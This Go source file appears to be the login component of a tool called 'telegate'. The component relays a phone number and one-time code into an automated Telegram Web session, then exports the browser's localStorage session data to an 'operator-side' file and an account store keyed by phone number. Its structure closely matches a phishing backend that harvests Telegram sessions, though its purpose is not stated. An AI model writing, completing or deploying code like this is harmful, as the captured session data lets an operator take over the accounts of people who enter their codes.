package login

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/google/uuid"

	"telegate/pkg/browser"
	"telegate/pkg/store"
)

// ArtifactFile is the operator-side copy of the exported session data,
// written next to the diagnostics in the data dir.
const ArtifactFile = "telegram_localstorage.json"

// Store is the slice of the account store the manager uses.
type Store interface {
	Append(ctx context.Context, rec store.AccountRecord) error
}

// Options configures a Manager.
type Options struct {
	// EntryURL is the Telegram Web entry point.
	EntryURL string

	// DataDir receives diagnostics and the localStorage artifact.
	DataDir string

	// StepTimeout bounds the slow automation waits: the entry-page
	// button search, the code input and the post-code chat-list wait.
	StepTimeout time.Duration
}

// Manager owns the driver, the account store and the session registry.
// It is the single writer for session state: HTTP handlers call the
// exported methods and never touch a Session directly.
type Manager struct {
	mu       sync.Mutex
	driver   browser.UI
	store    Store
	sessions map[string]*Session
	current  *Session

	entryURL    string
	dataDir     string
	stepTimeout time.Duration
	log         *slog.Logger
}

// NewManager creates a manager. The store may be nil, in which case
// completed logins are kept only as the local artifact.
func NewManager(driver browser.UI, st Store, opts Options, log *slog.Logger) *Manager {
	if opts.EntryURL == "" {
		opts.EntryURL = "https://web.telegram.org/a/"
	}
	if opts.StepTimeout == 0 {
		opts.StepTimeout = 30 * time.Second
	}
	if log == nil {
		log = slog.Default()
	}
	return &Manager{
		driver:      driver,
		store:       st,
		sessions:    make(map[string]*Session),
		entryURL:    opts.EntryURL,
		dataDir:     opts.DataDir,
		stepTimeout: opts.StepTimeout,
		log:         log.With("component", "login"),
	}
}

// SubmitPhone validates the inputs, creates a session and dispatches the
// phone flow in the background. It returns as soon as the flow is
// dispatched, not when it completes.
func (m *Manager) SubmitPhone(countryCode, phoneNumber string) (*Task, error) {
	if strings.TrimSpace(countryCode) == "" || strings.TrimSpace(phoneNumber) == "" {
		return nil, fmt.Errorf("%w: missing country_code or phone_number", ErrInvalidRequest)
	}

	m.mu.Lock()
	defer m.mu.Unlock()

	if cur := m.current; cur != nil {
		if cur.inFlight() {
			return nil, ErrFlowInFlight
		}
		// Retry is allowed only from a failed attempt; a session holding
		// a usable state must not be clobbered by a new phone number.
		if cur.State != StateReady && cur.State != StateFailed {
			return nil, fmt.Errorf("%w: %s", ErrInvalidState, cur.State)
		}
	}

	sess := &Session{
		ID:          uuid.NewString(),
		State:       StateAwaitingPhoneResult,
		PhoneNumber: "+" + countryCode + phoneNumber,
		CreatedAt:   time.Now(),
	}
	m.sessions[sess.ID] = sess
	m.current = sess

	m.log.Info("phone submission accepted", "session", sess.ID, "phone", sess.PhoneNumber)
	return m.dispatch("phone", func() error {
		return m.runPhoneFlow(sess, countryCode, phoneNumber)
	}), nil
}

// SubmitCode validates the code and dispatches the code flow. Valid
// only while the session is waiting for a code.
func (m *Manager) SubmitCode(code string) (*Task, error) {
	if strings.TrimSpace(code) == "" {
		return nil, fmt.Errorf("%w: missing code", ErrInvalidRequest)
	}

	m.mu.Lock()
	defer m.mu.Unlock()

	sess := m.current
	if sess == nil {
		return nil, ErrNotInitialized
	}
	if sess.State != StateCodeRequired {
		if sess.inFlight() {
			return nil, ErrFlowInFlight
		}
		return nil, fmt.Errorf("%w: %s", ErrInvalidState, sess.State)
	}
	sess.State = StateAwaitingCodeResult

	m.log.Info("code submission accepted", "session", sess.ID)
	return m.dispatch("code", func() error {
		return m.runCodeFlow(sess, code)
	}), nil
}

// Status is a pure read of the current session's state. It never blocks
// on automation and never mutates.
func (m *Manager) Status() string {
	m.mu.Lock()
	defer m.mu.Unlock()

	if m.current == nil {
		return StatusNotInitialized
	}
	return m.current.StatusLabel()
}

// Session returns a copy of the session with the given ID.
func (m *Manager) Session(id string) (*Session, bool) {
	m.mu.Lock()
	defer m.mu.Unlock()

	sess, ok := m.sessions[id]
	if !ok {
		return nil, false
	}
	snapshot := *sess
	return &snapshot, true
}

// CurrentSession returns a copy of the current session, or nil.
func (m *Manager) CurrentSession() *Session {
	m.mu.Lock()
	defer m.mu.Unlock()

	if m.current == nil {
		return nil
	}
	snapshot := *m.current
	return &snapshot
}

// dispatch launches a background unit of work under a task handle.
// Caller must hold the lock.
func (m *Manager) dispatch(phase string, run func() error) *Task {
	task := newTask(phase)
	flowDispatches.WithLabelValues(phase).Inc()

	go func() {
		err := run()
		if err != nil {
			flowFailures.WithLabelValues(phase).Inc()
			m.log.Error("background flow failed", "task", task.ID, "phase", phase, "error", err)
		} else {
			m.log.Info("background flow completed", "task", task.ID, "phase", phase)
		}
		task.finish(err)
	}()
	return task
}

// runPhoneFlow executes the phone-entry steps and records the outcome.
func (m *Manager) runPhoneFlow(sess *Session, countryCode, phoneNumber string) error {
	if err := m.phoneSteps(countryCode, phoneNumber); err != nil {
		m.failSession(sess, err)
		return err
	}

	m.mu.Lock()
	sess.State = StateCodeRequired
	m.mu.Unlock()
	return nil
}

// runCodeFlow executes the code-verification steps, persists the export
// and records the outcome.
func (m *Manager) runCodeFlow(sess *Session, code string) error {
	exported, err := m.codeSteps(code)
	if err != nil {
		m.failSession(sess, err)
		return err
	}

	// Browser-side success is authoritative from here on; persistence is
	// best-effort and never rolls the session back.
	m.writeArtifact(sess, exported)
	m.appendAccount(sess, exported)

	m.mu.Lock()
	sess.State = StateLoginSuccess
	sess.Exported = exported
	m.mu.Unlock()

	loginSuccesses.Inc()
	m.log.Info("login succeeded", "session", sess.ID, "phone", sess.PhoneNumber)
	return nil
}

// failSession captures diagnostics and moves the session to failed. The
// capture happens outside the lock since it talks to the browser.
func (m *Manager) failSession(sess *Session, cause error) {
	if diag, err := m.driver.CaptureDiagnostics(); err != nil {
		m.log.Warn("diagnostics capture failed", "session", sess.ID, "error", err)
	} else {
		if err := diag.Save(m.dataDir); err != nil {
			m.log.Warn("diagnostics save failed", "session", sess.ID, "error", err)
		} else {
			m.log.Info("diagnostics saved",
				"session", sess.ID, "url", diag.URL, "title", diag.Title)
		}
	}

	m.mu.Lock()
	sess.State = StateFailed
	sess.LastError = cause.Error()
	m.mu.Unlock()
}

// writeArtifact keeps an operator-side JSON copy of the export.
func (m *Manager) writeArtifact(sess *Session, exported map[string]string) {
	payload, err := json.MarshalIndent(exported, "", "  ")
	if err != nil {
		m.log.Warn("artifact encode failed", "session", sess.ID, "error", err)
		return
	}
	path := filepath.Join(m.dataDir, ArtifactFile)
	if err := os.WriteFile(path, payload, 0o600); err != nil {
		m.log.Warn("artifact write failed", "session", sess.ID, "path", path, "error", err)
		return
	}
	m.log.Info("local storage exported", "session", sess.ID, "path", path)
}

// appendAccount hands the export to the account store. Failures are
// logged and swallowed.
func (m *Manager) appendAccount(sess *Session, exported map[string]string) {
	if m.store == nil {
		m.log.Warn("account store not configured, skipping append", "session", sess.ID)
		return
	}

	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()

	err := m.store.Append(ctx, store.AccountRecord{
		PhoneNumber:  sess.PhoneNumber,
		LocalStorage: exported,
	})
	if err != nil {
		storeAppendFailures.Inc()
		m.log.Error("account store append failed", "session", sess.ID, "error", err)
		return
	}
	m.log.Info("account persisted", "session", sess.ID, "phone", sess.PhoneNumber)
}
